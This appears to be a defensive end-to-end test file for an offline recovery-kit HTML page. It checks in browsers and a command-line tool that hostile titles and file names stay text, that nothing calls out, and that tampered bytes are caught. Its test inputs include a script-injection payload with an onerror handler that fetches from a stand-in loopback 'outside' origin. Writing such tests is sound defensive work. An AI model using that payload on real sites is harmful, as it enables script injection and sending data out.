/**
 * Attacker: has access to a kit file. Wants to change the kit unnoticed, to run a title or a file
 * name as code, or to make the kit send something. Tries it on the file from disk, without a
 * network, in Chromium, in Firefox and by the command line.
 */
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";

import type { BrowserName } from "@relicario/engine/browsers";

import { newAccount, signUp } from "../pages/account.ts";
import { makeKit } from "../pages/kit.ts";
import {
  fillKitForm,
  gotoKit,
  kitBrowsers,
  launchKitBrowser,
  readBodyText,
  submitKitForm,
  type KitBrowser,
  type KitOpener,
  type KitTab,
} from "../pages/kit-tab.ts";
import { answerDeviceQuestion, protect, protectFile, type NewFile } from "../pages/secrets.ts";
import { DeadProxy } from "../support/dead-proxy.ts";
import { hostileNames } from "../support/hostile-names.ts";
import { messengerCopies, photographs } from "../support/photographs.ts";
import { expect, test } from "../support/portal-test.ts";
import { runRelicarioOpen } from "../support/relicario-open.ts";
import { createSentinel } from "../support/sentinel.ts";

/** Hosts that browsers call on their own: for the time, updates and lists. */
const browserVendorHosts =
  /^(GET|POST|CONNECT) (https?:\/\/)?([a-z0-9-]+\.)*(mozilla\.(com|net|org)|google\.com|googleapis\.com|gvt1\.com)[:/]/;

interface OfflineBrowser {
  readonly browser: KitBrowser;
  /** First lines of attempted requests, without those to the browser's maker. */
  readonly attemptedRequests: () => readonly string[];
  readonly close: () => Promise<void>;
}

/** All requests, to loopback too, end at a proxy that records them and never responds. */
async function startOfflineBrowser(name: BrowserName, downloads: string): Promise<OfflineBrowser> {
  const proxy = await DeadProxy.start();
  const browser = await launchKitBrowser(name, { proxyOrigin: proxy.address, downloadFolder: downloads });
  return {
    browser,
    attemptedRequests: () => proxy.requestLines().filter((line) => !browserVendorHosts.test(line)),
    close: async () => {
      await browser.close();
      await proxy.stop();
    },
  };
}

/** Adds the page's requests and dialogs to `observed`. */
async function openKitIn(browser: KitBrowser, file: string, opener: KitOpener, observed: string[]): Promise<KitTab> {
  const page = await browser.newPage();
  page.on("request", (request) => {
    if (!/^(file|blob|data):/.test(request.url())) observed.push(request.url());
  });
  page.on("dialog", (dialog) => {
    observed.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await gotoKit(page, file);
  if (await fillKitForm(page, opener)) await submitKitForm(page);
  return page;
}

/**
 * Revealed texts, or file names, of the opened secrets by title; `null` if the kit did not open.
 */
function readContents(page: KitTab): Promise<Readonly<Record<string, string>> | null> {
  return page.evaluate(async () => {
    const secrets = [...document.querySelectorAll("article")];
    if (secrets.length === 0) return null;
    for (const button of document.querySelectorAll<HTMLButtonElement>("article button[aria-expanded]")) button.click();
    const readContent = (secret: Element) =>
      (secret.querySelector("button[aria-expanded]") === null
        ? secret.querySelector("dd")
        : secret.querySelector("pre")
      )?.textContent ?? null;
    const readEntries = () =>
      secrets.map((secret) => [secret.querySelector("h3")?.textContent ?? "", readContent(secret)] as const);
    while (
      readEntries().some(
        ([, content], index) => content === null && secrets[index]?.querySelector(".error:not(:empty)") === null,
      )
    )
      await new Promise((resolve) => requestAnimationFrame(resolve));
    return Object.fromEntries(readEntries().map(([title, content]) => [title, content ?? ""]));
  });
}

async function saveFiles(page: KitTab): Promise<void> {
  for (const secret of await page.$$("article")) {
    if ((await secret.$("button[aria-expanded]")) === null) await (await secret.$("button"))?.click();
  }
}

async function readFiles(folder: string): Promise<Record<string, string>> {
  const names = await readdir(folder, { recursive: true });
  return Object.fromEntries(
    await Promise.all(names.map(async (name) => [name, await readFile(path.join(folder, name), "utf8")] as const)),
  );
}

test("an attacker wants the content of a kit to run or to call out, or a changed kit to open", async ({ page }) => {
  test.setTimeout(1_200_000);
  const outsideOrigin = "http://127.0.0.1:8123";
  const attack = `</script><script>document.title="owned";fetch("${outsideOrigin}/script")</script><img src="${outsideOrigin}/image" onerror="document.title='owned'">`;
  const secret = { title: `${attack}${createSentinel()}`.slice(0, 200), text: `${attack} ${createSentinel()}` };
  const files = Object.keys(hostileNames).map((name, index): NewFile => ({
    title: `<i>${String(index)}</i> ${createSentinel()}`,
    name,
    content: Buffer.from(`${attack} ${String(index)}`),
  }));
  const folder = await mkdtemp(path.join(tmpdir(), "relicario-kit-"));
  const passphrase = `four words and ${createSentinel()}`;
  const opener: KitOpener = { picturePath: path.join(folder, "sent.jpg"), passphrase };
  await writeFile(opener.picturePath, (await messengerCopies["1280 pixels, quality 75"](photographs.small)).buffer);

  await signUp(page, newAccount());
  await protect(page, {
    text: secret.text,
    title: secret.title,
    tags: [],
    image: { file: photographs.small, passphrase },
  });
  await answerDeviceQuestion(page, "My own device");
  for (const file of files) await protectFile(page, file);
  const kit = await makeKit(page, folder, photographs.small, passphrase);
  const bytes = await readFile(kit.file);
  const expectedContents = {
    [secret.title]: secret.text,
    ...Object.fromEntries(files.map(({ title, name }) => [title, name])),
  };
  const expectedFiles = Object.fromEntries(
    files.map(({ name, content }) => [hostileNames[name] ?? "", content.toString()]),
  );

  for (const name of kitBrowsers) {
    await test.step(`in ${name} it opens from disk without a network, and its content stays text`, async () => {
      const downloads = path.join(folder, name);
      await mkdir(downloads);
      const { browser, attemptedRequests, close } = await startOfflineBrowser(name, downloads);
      const observed: string[] = [];
      try {
        const refusedTab = await openKitIn(browser, kit.file, { ...opener, passphrase: `${passphrase}x` }, observed);
        expect(await readBodyText(refusedTab)).toContain("Wrong picture or wrong passphrase");
        const openedTab = await openKitIn(browser, kit.file, opener, observed);
        expect(await readContents(openedTab)).toEqual(expectedContents);
        await saveFiles(openedTab);
        await expect.poll(() => readFiles(downloads), { timeout: 60_000 }).toEqual(expectedFiles);
        expect(await openedTab.title()).toBe("Recovery kit");
        expect(observed).toEqual([]);

        // Proves that requests are recorded, on loopback too, and that there were no others.
        await openedTab.goto(`${outsideOrigin}/asked`).catch(() => undefined);
        expect([...new Set(attemptedRequests())]).toEqual([`GET ${outsideOrigin}/asked HTTP/1.1`]);
      } finally {
        await close();
      }
    });
  }

  await test.step("by the command line every file has a safe name, and the terminal gets only text", async () => {
    const outputFolder = path.join(folder, "out");
    await mkdir(outputFolder);
    const { code, stdout, stderr } = await runRelicarioOpen(
      [kit.file, opener.picturePath, "--passphrase-stdin", "--out", outputFolder],
      { folder, input: passphrase },
    );
    expect({ code, stderr }).toEqual({ code: 0, stderr: "" });
    expect(stdout.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(await readFiles(outputFolder)).toEqual({ ...expectedFiles, "secret.txt": secret.text });
  });

  const html = bytes.toString("latin1");
  const offsetAfter = (marker: string, distance: number): number => html.indexOf(marker) + marker.length + distance;
  /** Parts that opening uses: a kit changed there never opens. */
  const criticalOffsets: Readonly<Record<string, number>> = {
    "the worker": offsetAfter('id="kit-part-worker">', 90_000),
    "the engine": offsetAfter('id="kit-part-engine-simd">', 9_000),
    "the decoder of the picture": offsetAfter('id="kit-part-jpeg">', 30_000),
    "the digest of the kit": offsetAfter('data-sha256="', 7),
    "the helper": offsetAfter('"helper":"', 300),
    "the ticket": offsetAfter('"ticket":"', 2_500),
    "the content": offsetAfter('"content":"', 1_500),
    "the author key": offsetAfter('"author_keys":["', 9),
    "the script's digests": offsetAfter("const kitParts = {", 30),
    "the script": html.lastIndexOf("<script>") + 60_000,
    "the hash of the script": offsetAfter("script-src 'sha256-", 5),
  };
  const harmlessOffsets: Readonly<Record<string, number>> = {
    "the document type": 4,
    "the policy": offsetAfter("connect-src '", 1),
    "the style": offsetAfter("<style>", 200),
    "the first words": offsetAfter("<main>", 40),
    "another decoder": offsetAfter('id="kit-part-webp">', 30_000),
    "the end": html.length - 4,
  };
  for (const name of kitBrowsers) {
    await test.step(`in ${name} a byte that is changed anywhere is noticed, or changes nothing`, async () => {
      const { browser, attemptedRequests, close } = await startOfflineBrowser(name, folder);
      const openedPlaces: string[] = [];
      try {
        for (const [location, offset] of Object.entries({ ...criticalOffsets, ...harmlessOffsets })) {
          const changedBytes = Buffer.from(bytes);
          changedBytes[offset] = (changedBytes[offset] ?? 0) ^ 1;
          const file = path.join(folder, "changed.html");
          await writeFile(file, changedBytes);
          const observed: string[] = [];
          const tab = await openKitIn(browser, file, opener, observed);
          const contents = await readContents(tab);
          expect([location, observed]).toEqual([location, []]);
          if (contents === null)
            expect([location, await readBodyText(tab)]).toEqual([
              location,
              expect.stringMatching(/was changed or is damaged|can't open the kit|can't be read/),
            ]);
          else expect([location, contents]).toEqual([location, expectedContents]);
          if (contents !== null) openedPlaces.push(location);
          await tab.close();
        }
        expect(openedPlaces.filter((location) => location in criticalOffsets)).toEqual([]);
        expect(openedPlaces).toContain("the end"); // proves that a kit with an intact program opens
        expect(attemptedRequests()).toEqual([]);
      } finally {
        await close();
      }
    });
  }
  await rm(folder, { recursive: true, force: true });
});
